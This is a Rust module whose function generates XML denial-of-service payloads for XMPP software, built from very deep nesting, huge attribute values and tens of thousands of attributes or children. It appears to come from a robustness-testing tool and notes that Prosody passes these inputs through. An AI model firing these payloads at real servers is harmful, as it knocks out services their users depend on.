//! What is known to bring clients, gateways and servers down.

use std::fmt::Write as _;

/// What the notes of those who tried it say brings clients, gateways and servers down. Prosody lets all of it through.
pub(crate) fn attacks() -> Vec<(&'static str, String)> {
    let nested =
        |depth: usize| format!("<a xmlns='urn:a'>{}{}</a>", "<a>".repeat(depth), "</a>".repeat(depth));
    let mut attributes = String::from("<x xmlns='urn:x'");
    for n in 0..20_000 {
        write!(attributes, " a{n}=''").unwrap();
    }
    vec![
        ("100 levels", nested(100)),
        ("1,000 levels", nested(1_000)),
        ("4,000 levels", nested(4_000)),
        ("30,000 levels", nested(30_000)),
        ("a value of 8,193 bytes", format!("<x xmlns='urn:x' v='{}'/>", "A".repeat(8_193))),
        ("a value of 200,000 bytes", format!("<x xmlns='urn:x' v='{}'/>", "A".repeat(200_000))),
        ("20,000 attributes", format!("{attributes}/>")),
        ("60,000 children", format!("<x xmlns='urn:x'>{}</x>", "<a/>".repeat(60_000))),
    ]
}
